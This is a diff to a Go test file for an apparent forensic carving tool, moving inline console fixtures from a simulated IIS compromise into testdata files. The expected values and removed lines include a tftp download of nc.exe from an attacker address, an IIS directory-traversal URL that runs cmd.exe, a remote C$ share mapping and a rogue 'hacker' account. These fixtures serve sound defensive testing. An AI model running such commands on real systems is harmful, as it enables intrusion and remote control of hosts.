@@ -50,7 +50,8 @@ func crlf(s string) string { return strings.ReplaceAll(strings.TrimPrefix(s, "\n
 
 // chapterFrags are the chapter's fragments (ping, dir, IIS lines as
 // reproduced by winelab's nc.exe, read from its truth file) and the other
-// tools' output in the formats Windows 2000/XP print.
+// tools' output in the formats Windows 2000/XP and iroffer print
+// (testdata/carve/NAME.txt).
 func chapterFrags(t testing.TB) []frag {
 	var known struct {
 		KnownStrings []struct{ Name, Text string } `json:"known_strings"`
@@ -73,109 +74,49 @@ func chapterFrags(t testing.TB) []frag {
 			want: map[string]string{"serial": "2C4B-1F0E", "directory": `C:\WINNT\system32\os2\dll`, "bytes_free": "3451928576", "file_count": "3", "dir_count": "2", "file_bytes": "128000"}},
 		{name: "iis", carver: "iis", text: texts["iis_ascii"], records: 8,
 			want: map[string]string{"directive": "software", "value": "Microsoft Internet Information Services 5.0"}},
-		{name: "prompt-tftp", carver: "prompt", text: crlf("\nC:\\Inetpub\\scripts>tftp -i 198.51.100.23 GET nc.exe\n"), records: 1, console: true,
+		{name: "prompt-tftp", carver: "prompt", records: 1, console: true,
 			want: map[string]string{"cwd": `C:\Inetpub\scripts`, "command": "tftp -i 198.51.100.23 GET nc.exe", "program": "tftp"}},
-		{name: "prompt-ftp", carver: "prompt", text: crlf("\nC:\\WINNT\\system32>ftp 10.0.0.5\n"), records: 1, console: true,
+		{name: "prompt-ftp", carver: "prompt", records: 1, console: true,
 			want: map[string]string{"cwd": `C:\WINNT\system32`, "command": "ftp 10.0.0.5"}},
-		{name: "ipconfig", carver: "ipconfig", console: true, records: 1, text: crlf(`
-Windows 2000 IP Configuration
-
-        Host Name . . . . . . . . . . . . : victim01
-        Primary DNS Suffix  . . . . . . . : 
-        Node Type . . . . . . . . . . . . : Hybrid
-        IP Routing Enabled. . . . . . . . : No
-        WINS Proxy Enabled. . . . . . . . : No
-
-Ethernet adapter Local Area Connection:
-
-        Connection-specific DNS Suffix  . : 
-        Description . . . . . . . . . . . : AMD PCNET Family PCI Ethernet Adapter
-        Physical Address. . . . . . . . . : 00-0C-29-A7-2B-5C
-        DHCP Enabled. . . . . . . . . . . : No
-        IP Address. . . . . . . . . . . . : 192.168.1.5
-        Subnet Mask . . . . . . . . . . . : 255.255.255.0
-        Default Gateway . . . . . . . . . : 192.168.1.1
-        DNS Servers . . . . . . . . . . . : 192.168.1.2
-                                            192.168.1.3
-`), want: map[string]string{"host_name": "victim01", "node_type": "Hybrid", "ip_address": "192.168.1.5", "physical_address": "00-0C-29-A7-2B-5C"}},
-		{name: "netstat-an", carver: "netstat", console: true, records: 1, text: crlf(`
-Active Connections
-
-  Proto  Local Address          Foreign Address        State
-  TCP    0.0.0.0:135            0.0.0.0:0              LISTENING
-  TCP    0.0.0.0:445            0.0.0.0:0              LISTENING
-  TCP    192.168.1.5:139        0.0.0.0:0              LISTENING
-  TCP    192.168.1.5:1031       198.51.100.23:6667     ESTABLISHED
-  TCP    192.168.1.5:60906      198.51.100.23:1067     ESTABLISHED
-  UDP    0.0.0.0:445            *:*
-`), want: map[string]string{"table": "connections", "foreign_address": "[0.0.0.0:0 0.0.0.0:0 0.0.0.0:0 198.51.100.23:6667 198.51.100.23:1067 *:*]"}},
-		{name: "netstat-rn", carver: "netstat", console: true, records: 1, text: crlf(`
-===========================================================================
-Interface List
-0x1 ........................... MS TCP Loopback interface
-0x1000003 ...00 0c 29 a7 2b 5c ...... AMD PCNET Family Ethernet Adapter
-===========================================================================
-===========================================================================
-Active Routes:
-Network Destination        Netmask          Gateway       Interface  Metric
-          0.0.0.0          0.0.0.0      192.168.1.1     192.168.1.5       1
-        127.0.0.0        255.0.0.0        127.0.0.1       127.0.0.1       1
-      192.168.1.0    255.255.255.0      192.168.1.5     192.168.1.5       1
-Default Gateway:       192.168.1.1
-===========================================================================
-Persistent Routes:
-  None
-`), want: map[string]string{"table": "routes", "default_gateway": "192.168.1.1"}},
-		{name: "tasklist", carver: "tasklist", console: true, records: 1, text: crlf(`
-Image Name                     PID Session Name        Session#    Mem Usage
-========================= ======== ================ =========== ============
-System Idle Process              0 Console                    0         16 K
-System                           4 Console                    0        212 K
-smss.exe                       544 Console                    0        388 K
-inetinfo.exe                   968 Console                    0      7,412 K
-nc.exe                        1424 Console                    0      1,020 K
-`), want: map[string]string{"tool": "tasklist", "image": "[System Idle Process System smss.exe inetinfo.exe nc.exe]"}},
-		{name: "net-user", carver: "net", console: true, records: 1, text: crlf(`
-User accounts for \\VICTIM01
-
--------------------------------------------------------------------------------
-Administrator            Guest                    hacker
-IUSR_VICTIM01            IWAM_VICTIM01            TsInternetUser
-The command completed successfully.
-`), want: map[string]string{"command": "net user", "host": "VICTIM01", "user": "[Administrator Guest hacker IUSR_VICTIM01 IWAM_VICTIM01 TsInternetUser]"}},
-		{name: "net-use", carver: "net", console: true, records: 1, text: crlf(`
-New connections will be remembered.
-
-
-Status       Local     Remote                    Network
-
--------------------------------------------------------------------------------
-OK           Z:        \\10.0.0.5\c$             Microsoft Windows Network
-The command completed successfully.
-`), want: map[string]string{"command": "net use", "remote": `[\\10.0.0.5\c$]`}},
-		{name: "net-share", carver: "net", console: true, records: 1, text: crlf(`
-Share name   Resource                        Remark
-
--------------------------------------------------------------------------------
-IPC$                                         Remote IPC
-C$           C:\                             Default share
-ADMIN$       C:\WINNT                        Remote Admin
-The command completed successfully.
-`), want: map[string]string{"command": "net share", "share": "[IPC$ C$ ADMIN$]"}},
-		{name: "irc-privmsg", carver: "irc", records: 1, text: ":hacker!~h@198.51.100.23 PRIVMSG #warez :XDCC SEND #1\r\n",
+		{name: "ipconfig", carver: "ipconfig", console: true, records: 1,
+			want: map[string]string{"host_name": "victim01", "node_type": "Hybrid", "ip_address": "192.168.1.5", "physical_address": "00-0C-29-A7-2B-5C"}},
+		{name: "netstat-an", carver: "netstat", console: true, records: 1,
+			want: map[string]string{"table": "connections", "foreign_address": "[0.0.0.0:0 0.0.0.0:0 0.0.0.0:0 198.51.100.23:6667 198.51.100.23:1067 *:*]"}},
+		{name: "netstat-rn", carver: "netstat", console: true, records: 1,
+			want: map[string]string{"table": "routes", "default_gateway": "192.168.1.1"}},
+		{name: "tasklist", carver: "tasklist", console: true, records: 1,
+			want: map[string]string{"tool": "tasklist", "image": "[System Idle Process System smss.exe inetinfo.exe nc.exe]"}},
+		{name: "net-user", carver: "net", console: true, records: 1,
+			want: map[string]string{"command": "net user", "host": "VICTIM01", "user": "[Administrator Guest hacker IUSR_VICTIM01 IWAM_VICTIM01 TsInternetUser]"}},
+		{name: "net-use", carver: "net", console: true, records: 1,
+			want: map[string]string{"command": "net use", "remote": `[\\10.0.0.5\c$]`}},
+		{name: "net-share", carver: "net", console: true, records: 1,
+			want: map[string]string{"command": "net share", "share": "[IPC$ C$ ADMIN$]"}},
+		{name: "irc-privmsg", carver: "irc", records: 1,
 			want: map[string]string{"kind": "privmsg", "nick": "hacker", "target": "#warez", "xdcc": "SEND", "pack": "1"}},
-		{name: "irc-join", carver: "irc", records: 1, text: ":victimbot!~iroffer@192.168.1.5 JOIN :#warez\r\n",
+		{name: "irc-join", carver: "irc", records: 1,
 			want: map[string]string{"kind": "join", "nick": "victimbot", "target": "#warez"}},
-		{name: "iroffer-stat", carver: "irc", records: 1, console: true, text: "Stat: 2/10 Sls, 1/10 Q, 0/20 I (Bdw: 2560K, 10.0K/s Up)\r\n",
+		{name: "iroffer-stat", carver: "irc", records: 1, console: true,
 			want: map[string]string{"kind": "iroffer_status", "slots_used": "2", "slots": "10"}},
-		{name: "iroffer-pack", carver: "irc", records: 1, console: true, text: "#1   12x [ 37M] warez-movie.avi\r\n",
+		{name: "iroffer-pack", carver: "irc", records: 1, console: true,
 			want: map[string]string{"kind": "iroffer_pack", "pack": "1", "gets": "12", "file": "warez-movie.avi"}},
-		{name: "url", carver: "url", records: 1, text: "http://198.51.100.23/scripts/..%5c../winnt/system32/cmd.exe?/c+dir",
+		{name: "url", carver: "url", records: 1,
 			want: map[string]string{"host": "198.51.100.23", "scheme": "http"}},
-		{name: "email", carver: "email", records: 1, text: "attacker@example.org",
+		{name: "email", carver: "email", records: 1,
 			want: map[string]string{"domain": "example.org"}},
-		{name: "ipv4", carver: "ipv4", records: 1, text: "198.51.100.23:6667",
+		{name: "ipv4", carver: "ipv4", records: 1,
 			want: map[string]string{"address": "198.51.100.23", "port": "6667"}},
+	}
+	// The other tools' output, in testdata/carve (CRLF line ends).
+	for i := range fr {
+		if fr[i].text != "" {
+			continue
+		}
+		b, err := os.ReadFile("../testdata/carve/" + fr[i].name + ".txt")
+		if err != nil {
+			t.Fatal(err)
+		}
+		fr[i].text = string(b)
 	}
 	// The set output of Wine's cmd (real), from a dump's truth file.
 	var sh struct {
